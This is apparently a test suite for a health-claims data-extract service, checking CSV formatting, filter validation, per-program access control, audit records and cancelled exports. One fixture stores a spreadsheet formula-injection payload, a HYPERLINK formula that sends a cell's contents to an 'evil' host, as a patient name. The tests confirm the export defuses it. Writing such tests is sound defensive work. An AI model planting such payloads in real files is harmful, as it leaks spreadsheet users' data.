import { once } from 'node:events'
import { connect } from 'node:net'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { addClaimant, addRequests, hoursFrom } from '#features/worklist/testing-requests.ts'
import { settings } from '#features/settings/contract.ts'
import type { InputOf } from '#platform/calls/contract.ts'
import { toRequest } from '#platform/calls/wire.ts'
import { ORIGIN, type TestApi, type Visitor } from '#testing/api.ts'
import { portOf } from '#testing/attacks/raw-socket.ts'
import { addFills, claimId, copyFills } from '#testing/fills.ts'
import { startFixtureApi } from '#testing/fixture-api.ts'
import { idOf } from '#testing/fixtures.ts'
import { eventually } from '#testing/eventually.ts'
import { areas } from './areas.ts'
import { dataExtracts } from './contract.ts'
import { whyNotRows } from './rules.ts'

type Extract = InputOf<typeof dataExtracts.extract>

let api: TestApi
let user: Visitor
let other: Visitor
const now = new Date()
const evil = '=HYPERLINK("http://evil?"&A1)'
const year = { fromValue: hoursFrom(now, -24 * 300), toValue: hoursFrom(now, 24) }
const patients: Extract = {
  mc: 'AAA',
  selectedSubCarriers: ['AAA1'],
  subjectAreaId: 'patients',
  fieldList: ['claimNumber', 'patientLastName', 'patientFirstName', 'dateOfBirth', 'injury'],
}

beforeAll(async () => {
  api = await startFixtureApi({ keep: true, limitFactor: 100 })
  const person = await addClaimant(api.db, {
    first: '\n+1',
    last: evil,
    normalizeForSearch: ['hyperlink', 'lukasz'],
    claimNumber: '00123',
  })
  await api.db.query(`update wc_claim set injury = $2 where id = $1`, [person, 'Fell, "hard"\non ice\r\nand again'])
  await addRequests(
    api.db,
    [
      { name: 'open', received: hoursFrom(now, -100) },
      { name: 'decided', status: 30, received: hoursFrom(now, -200) },
      { name: 'long ago', status: 40, received: hoursFrom(now, -24 * 500) },
      { name: 'of the south', sub: 'AAA2', owners: ['adj.aaa2'] },
      { name: 'theirs', mc: 'BBB', owners: ['adj.bbb'] },
    ],
    now,
  )
  await addFills(api, [
    { ago: 5 },
    { ago: 6, status: 'X' },
    { ago: 7, status: 'R' },
    { ago: 8, sub: 'AAA2' },
    { ago: 9, claim: 2 },
  ])
  await api.db.query(`update user_carrier set data_extract_sub_carriers = '{BBB1}' where user_id = $1`, [
    idOf('adj.bbb'),
  ])
  user = await api.signIn('ext.aaa')
  other = await api.signIn('adj.bbb')
})
afterAll(() => api.close())

/** Rows of a CSV in which every field is quoted and every record ends in CRLF. */
const rowsOf = (text: string): string[][] => {
  expect(text.replaceAll(/"(?:[^"]|"")*"/g, '')).toMatch(/^\u{feff}?(,*\r\n)+$/u)
  return text
    .replace(/^\u{feff}/u, '')
    .split(/(?<=^(?:[^"]|"[^"]*")*)\r\n/)
    .filter(Boolean)
    .map((line) => [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map(([, cell]) => cell!.replaceAll('""', '"')))
}
const made = async (input: Partial<Extract>, by = user) => {
  const answer = await by.ask(dataExtracts.extract, { ...patients, ...input })
  return { ...answer, rows: answer.status === 200 ? rowsOf(answer.text) : [] }
}
const problems = (body: unknown) =>
  Object.fromEntries(
    (body as { fields: { path: string; message: string }[] }).fields.map(({ path, message }) => [path, message]),
  )
const requests = (reportFilters: Extract['reportFilters'] = []): Partial<Extract> => ({
  subjectAreaId: 'authorizations',
  fieldList: ['referenceNumber', 'status', 'received', 'drug', 'drugCode', 'quantity', 'estimatedCost', 'jurisState'],
  reportFilters: [{ fieldName: 'received', ...year }, ...reportFilters!],
})

test('the server describes every subject area, its fields and its filters to those who may extract', async () => {
  const listed = await user.ask(dataExtracts.subjectAreas, {})
  expect(listed.body.map(({ label }) => label)).toEqual([
    'Authorizations',
    'Decisions and turnaround',
    'Transactions',
    'Eligibility',
    'Patients',
    'Prior authorizations',
    'Letters of medical necessity',
    'Users',
  ])
  const found = (await user.ask(dataExtracts.parameters, { a: 'transactions', b: 'AAA2' })).body
  expect(found.requiredReportFilters).toEqual([
    {
      filterType: 'GROUP',
      filtering: 'is between',
      outputFieldName: 'filled',
      fieldName: 'filled',
      fieldDisplayValue: 'Filled',
      required: true,
      parameters: {
        type: 'DateRange',
        fromName: 'filledFrom',
        toName: 'filledTo',
        fromDisplayValue: 'Filled, from',
        toDisplayValue: 'Filled, to',
      },
    },
  ])
  expect(found.fieldList).toContainEqual({ key: 'paid', label: 'Amount paid', type: 'money', default: true })
  expect(found.optionalReportFilters.map(({ fieldName }) => fieldName)).toContain('pharmacyNabp')
  expect((await user.ask(dataExtracts.programs, { mc: 'AAA' })).body).toEqual(
    [
      { carrierCode: 'AAA2', carrierName: expect.any(String) },
      { carrierCode: 'AAA1', carrierName: expect.any(String) },
    ].toSorted((a, b) => (a.carrierCode < b.carrierCode ? -1 : 1)),
  )
  for (const { fields, filters } of areas) {
    expect(new Set(fields.map(({ key }) => key)).size).toBe(fields.length)
    for (const filter of filters) expect(fields.map(({ key }) => key)).toContain(filter.outputFieldName)
  }
})

test('every field and every filter of every subject area makes a file, one row a row and one column a field', async () => {
  for (const area of areas) {
    const answers = area.filters.map(({ fieldName, parameters: { type, options, multiSelect, minLength = 1 } }) => ({
      fieldName,
      ...(type === 'DateRange'
        ? year
        : type === 'Select'
          ? { selectedOptions: options!.slice(0, multiSelect ? undefined : 1).map(({ key }) => key) }
          : { value: '1'.repeat(minLength) }),
    }))
    const of = { subjectAreaId: area.id, fieldList: area.fields.map(({ key }) => key) }
    for (const reportFilters of [answers.filter((_, at) => area.filters[at]!.required), answers]) {
      const { status, text, rows } = await made({ ...of, reportFilters })
      expect({ area: area.id, status, text: status === 200 ? '' : text }).toEqual({
        area: area.id,
        status: 200,
        text: '',
      })
      expect(rows[0]).toEqual(area.fields.map(({ label }) => label))
      expect(new Set(rows.map((row) => row.length))).toEqual(new Set([area.fields.length]))
      const { body } = await user.ask(dataExtracts.count, { ...patients, ...of, reportFilters })
      expect([area.id, body]).toEqual([area.id, { rows: rows.length - 1, most: 1_000_000 }])
    }
  }
})

test('a file has its name, the mark of Excel, no formula, line breaks within a field, and a claim number with its zeros', async () => {
  const { headers, text, rows } = await made({ reportFilters: [{ fieldName: 'claimNumber', value: '00123' }] })
  expect(headers['content-disposition']).toMatch(/^attachment; filename="data-extract-\d{14}\.csv"/)
  expect([headers['content-type'], headers['cache-control']]).toEqual(['text/csv; charset=utf-8', 'no-store'])
  expect(text.startsWith('\u{feff}"Claim number","Patient last name"')).toBe(true)
  expect(rows.slice(1)).toEqual([['00123', `'${evil}`, "'\r\n+1", '02/03/1980', 'Fell, "hard"\r\non ice\r\nand again']])
})

test('an extract has the rows of its program and period, as its filters say, times in the user’s zone', async () => {
  const all = await made(requests())
  expect(new Set(all.rows.slice(1).map((row) => row[1]))).toEqual(new Set(['Approved', 'Pending']))
  const approved = await made(requests([{ fieldName: 'status', selectedOptions: ['30', '31'] }]))
  expect(approved.rows.slice(1)).toEqual([
    [
      expect.stringMatching(/^\d{12}$/),
      'Approved',
      expect.stringMatching(/^\d\d\/\d\d\/\d{4} \d\d:\d\d:\d\d [AP]M$/),
      expect.any(String),
      expect.stringMatching(/^S\d{14}$/),
      expect.stringMatching(/^\d+$/),
      '142.60',
      'FL',
    ],
  ])
  const fills = await made({
    subjectAreaId: 'transactions',
    fieldList: ['type', 'paid', 'filled'],
    reportFilters: [{ fieldName: 'filled', ...year }],
  })
  expect(
    fills.rows
      .slice(1)
      .map((row) => row.slice(0, 2))
      .toSorted(([a], [b]) => (a! < b! ? -1 : 1)),
  ).toEqual([
    ['Paid', expect.stringMatching(/^\d+\.\d\d$/)],
    ['Paid', expect.stringMatching(/^\d+\.\d\d$/)],
    ['Rejected', ''],
    ['Reversal', expect.stringMatching(/^-\d+\.\d\d$/)],
  ])
  await addClaimant(api.db, {
    first: 'Ana',
    last: 'García-Łuk',
    normalizeForSearch: ['garcia', 'ana'],
    claimNumber: '00124',
  })
  for (const value of ['García', 'garcía-ł', 'GARC'])
    expect(
      (await made({ reportFilters: [{ fieldName: 'patientLastName', value }] })).rows.slice(1).map((row) => row[1]),
    ).toEqual(['García-Łuk'])
  const none = await made({ reportFilters: [{ fieldName: 'patientLastName', value: 'nobody' }] })
  expect(none.rows).toEqual([['Claim number', 'Patient last name', 'Patient first name', 'Date of birth', 'Injury']])
})

test('the first rows of an extract are shown as the file has them, and whose they are is in the audit', async () => {
  const fieldList = ['claimNumber', 'patientLastName', 'dateOfBirth']
  const input = { ...patients, fieldList, reportFilters: [{ fieldName: 'claimNumber', value: '00123' }] }
  const { status, body } = await user.ask(dataExtracts.preview, input)
  expect([status, body]).toEqual([200, { content: [['00123', `'${evil}`, '02/03/1980']] }])
  const { rows } = await api.db.query(
    `select c.claim_number from access_audit a join wc_claim c on c.id = any(a.claim_ids) where a.call = 'dataExtracts.preview'`,
  )
  expect(rows).toEqual([{ claim_number: '00123' }])
  for (const area of areas) {
    const filters = area.filters.filter(({ required }) => required)
    const reportFilters = filters.map(({ fieldName }) => ({ fieldName, ...year }))
    const of = { subjectAreaId: area.id, fieldList: area.fields.map(({ key }) => key), reportFilters }
    const shown = await user.ask(dataExtracts.preview, { ...patients, ...of })
    const whole = (await made(of)).rows.slice(1)
    expect([area.id, shown.status, shown.body.content.length]).toEqual([area.id, 200, Math.min(20, whole.length)])
    for (const row of shown.body.content) expect(whole).toContainEqual(row.map((text) => text))
  }
  expect((await user.ask(dataExtracts.preview, { ...input, selectedSubCarriers: ['BBB1'] })).status).toBe(404)
  expect((await user.ask(dataExtracts.preview, { ...input, fieldList: ['ssn'] })).status).toBe(400)
})

test('a filter that is filled in wrong is refused on its field in words', async () => {
  const refused = async (of: Partial<Extract>) => {
    const { status, body } = await made(of)
    expect(status).toBe(400)
    return problems(body)
  }
  const range = (fromValue: string | null, toValue: string | null) =>
    refused({ ...requests(), reportFilters: [{ fieldName: 'received', fromValue, toValue }] })
  const [from, to] = ['reportFilters.0.fromValue', 'reportFilters.0.toValue']
  expect(await refused({ ...requests(), reportFilters: [] })).toEqual({
    'reportFilters.received.fromValue': 'Required',
    'reportFilters.received.toValue': 'Required',
  })
  expect(await range(year.fromValue, null)).toEqual({ [to]: 'Date range selected must be limited to 1 year' })
  expect(await range(null, year.toValue)).toEqual({ [from]: 'Date range selected must be limited to 1 year' })
  expect(await range('2025-01-01T05:00:00Z', '2026-01-01T05:00:01Z')).toEqual({
    [from]: 'Date range selected must be limited to 1 year',
  })
  expect(await range(year.toValue, year.fromValue)).toEqual({
    [from]: 'Start date cannot be after end date',
    [to]: 'End date cannot be before start date',
  })
  expect(await range('1960-01-01T05:00:00Z', '1960-02-01T05:00:00Z')).toEqual({
    [from]: 'Invalid date',
    [to]: 'Invalid date',
  })
  expect(await refused({ reportFilters: [{ fieldName: 'claimNumber', value: 'a;b' }] })).toEqual({
    'reportFilters.0.value': 'Invalid characters. Allowed: A-Z 0-9 -',
  })
  expect(await refused({ reportFilters: [{ fieldName: 'claimNumber', value: '1'.repeat(26) }] })).toEqual({
    'reportFilters.0.value': 'Maximum length: 25',
  })
  expect(await refused(requests([{ fieldName: 'drugCode', value: '6' }]))).toEqual({
    'reportFilters.1.value': 'Minimum length: 2',
  })
  expect(await refused(requests([{ fieldName: 'status', selectedOptions: ['10'] }]))).toEqual({
    'reportFilters.1.selectedOptions': 'Choose from the list.',
  })
  const two = [{ fieldName: 'compensability', selectedOptions: ['PENDING', 'ACCEPTED'] }]
  expect(await refused({ fieldList: ['claimNumber', 'compensability'], reportFilters: two })).toEqual({
    'reportFilters.0.selectedOptions': 'Choose one.',
  })
  expect(await refused(requests([{ fieldName: 'caseOwner', value: 'x' }]))).toEqual({
    'reportFilters.1.fieldName': 'Authorizations has no filter caseOwner.',
  })
  expect(await refused({ reportFilters: [{ fieldName: 'jurisState', selectedOptions: ['FL'] }] })).toEqual({
    'reportFilters.0.fieldName': 'Choose the field Jurisdiction state to filter by it.',
  })
  expect(await refused({ reportFilters: [{ fieldName: 'claimNumber', filterType: 'GROUP' }] })).toEqual({
    'reportFilters.0.filterType': 'Unsupported form filter type: GROUP',
  })
  expect(
    await refused({ reportFilters: [{ fieldName: 'claimNumber', parameters: { type: 'Magic' as 'Text' } }] }),
  ).toEqual({ 'reportFilters.0.parameters.type': 'Unsupported form filter field type: Magic' })
  expect(await refused({ fieldList: ['claimNumber', 'ssn', 'claimNumber'] })).toEqual({
    'fieldList.1': 'Patients has no field ssn.',
    'fieldList.2': 'Choose each field once.',
  })
  expect(await refused({ fieldList: [] })).toEqual({ fieldList: 'Required' })
})

test('users extract from their own programs only, those without one from nothing', async () => {
  const without = await api.signIn('adj.aaa')
  for (const [call, input] of [
    [dataExtracts.subjectAreas, {}],
    [dataExtracts.programs, { mc: 'AAA' }],
    [dataExtracts.parameters, { a: 'patients', b: 'AAA1' }],
    [dataExtracts.extract, patients],
    [dataExtracts.count, patients],
  ] as const)
    expect([call.name, (await without.ask(call, input as never)).status]).toEqual([call.name, 404])
  for (const program of ['BBB1', 'AAA9']) {
    expect((await made({ selectedSubCarriers: [program] })).status).toBe(404)
    expect((await user.ask(dataExtracts.parameters, { a: 'patients', b: program })).status).toBe(404)
  }
  expect((await made({ selectedSubCarriers: ['AAA1', 'AAA2'] })).status).toBe(400)
  expect((await made({ mc: 'BBB' })).status).toBe(404)
  expect((await made({ subjectAreaId: 'secrets' })).status).toBe(404)
  const theirs = await made({ ...requests(), mc: 'BBB', selectedSubCarriers: ['BBB1'] }, other)
  expect(theirs.rows).toHaveLength(2)
  // A program outside of the sub-carriers somebody works in is not offered, whatever an administrator gave.
  await api.db.query(
    `update user_carrier set data_extract_sub_carriers = '{AAA1,AAA2}', sub_carriers = '{AAA1}' where user_id = $1`,
    [idOf('adj.aaa2')],
  )
  const narrow = await api.signIn('adj.aaa2')
  const offered = (await narrow.ask(settings.extractSubCarriers, { masterCarrier: 'AAA' })).body
  expect(offered.map(({ carrierCode }) => carrierCode)).toEqual(['AAA1'])
  expect((await made({ selectedSubCarriers: ['AAA2'] }, narrow)).status).toBe(404)
})

test('the audit has the filter, everybody in the file, and how many rows left', async () => {
  await api.db.query('delete from access_audit')
  const claim = { fieldName: 'claimNumber', value: '00123' }
  const { rows } = await made({ reportFilters: [claim, { fieldName: 'patientLastName', value: ' ' }] })
  expect(rows).toHaveLength(2)
  const { rows: audited } = await api.db.query(
    `select object_type, cardinality(claim_ids) as claims, detail, actor from access_audit where call = $1 order by id`,
    [dataExtracts.extract.name],
  )
  expect(audited).toEqual([
    {
      object_type: 'export',
      claims: 0,
      actor: 'Ext aaa',
      detail: {
        file: expect.stringMatching(/^data-extract-\d{14}\.csv$/),
        area: 'patients',
        program: 'AAA1',
        columns: patients.fieldList,
        filters: [claim],
      },
    },
    { object_type: 'export claims', claims: 1, actor: 'Ext aaa', detail: null },
    { object_type: 'export end', claims: 0, actor: 'Ext aaa', detail: { rows: 1, complete: true } },
  ])
})

/** Asks for an extract over a socket, whose answer nobody reads yet. */
async function askOverSocket(input: Extract) {
  const { method, url, body } = toRequest(dataExtracts.extract, input)
  const headers = {
    host: 'localhost:3000',
    cookie: user.cookie!,
    origin: ORIGIN,
    'x-portal-request': '1',
    'x-master-carrier': 'AAA',
    'content-type': 'application/json',
  }
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}`)
  const socket = connect(await portOf(api), '127.0.0.1')
  await once(socket, 'connect')
  socket.on('error', () => {})
  const sent = body as string
  socket.write(
    `${method} ${url} HTTP/1.1\r\n${lines.join('\r\n')}\r\ncontent-length: ${Buffer.byteLength(sent)}\r\n\r\n${sent}`,
  )
  return socket
}

test('an extract that is given up before its first byte keeps no connection and is on record as canceled', async () => {
  const { db } = api
  const waiting = async () =>
    (await db.query(`select from pg_locks where not granted and relation = 'claimant'::regclass`)).rowCount
  const ended = async () =>
    (await db.query(`select state from export_record order by at desc, id desc limit 1`)).rows[0]?.state
  await db.query('begin')
  await db.query('lock table claimant in access exclusive mode')
  const socket = await askOverSocket(patients)
  await eventually(async () => expect(await waiting()).toBeGreaterThan(0))
  socket.destroy()
  await once(socket, 'close')
  await db.query('rollback')
  await eventually(async () => expect(await ended()).toBe('CANCELED'))
  const { copies } = api.built.portal.pools
  await eventually(() => expect(copies.totalCount - copies.idleCount).toBe(0))
})

test('an extract whose reader goes away ends in the database; a reader who is slow takes no connection from others', async () => {
  await copyFills(api.db, claimId(2), {
    count: 5000,
    own: { fill_date: 'x.fill_date - n % 200', drug_name: `rpad('a', 4000, 'b')` },
  })
  const socket = await askOverSocket({
    ...patients,
    subjectAreaId: 'transactions',
    fieldList: areas.find(({ id }) => id === 'transactions')!.fields.map(({ key }) => key),
    reportFilters: [{ fieldName: 'filled', ...year }],
  })
  await once(socket, 'readable')
  expect(String(socket.read(200))).toContain('HTTP/1.1 200')
  const copying = async () =>
    (
      await api.db.query(
        `select from pg_stat_activity where datname = current_database() and query like 'copy (%' and state = 'active'`,
      )
    ).rowCount
  // Nobody reads on: the statement waits, and ends with the connection.
  await eventually(async () => expect(await copying()).toBe(1))
  expect((await user.ask(dataExtracts.programs, { mc: 'AAA' })).status).toBe(200)
  socket.destroy()
  await eventually(async () => expect(await copying()).toBe(0))
  const ended = async () =>
    (await api.db.query(`select detail from access_audit where object_type = 'export end' order by id desc limit 1`))
      .rows[0].detail
  await eventually(async () => expect(await ended()).toMatchObject({ complete: false }))
})

test('a million rows are a file, one more is not', () => {
  expect(whyNotRows(1_000_000)).toBeUndefined()
  expect(whyNotRows(1_000_001)).toMatchObject({
    code: 'VALIDATION',
    message: '1,000,001 rows match. A file has at most 1,000,000: narrow the filters.',
  })
})
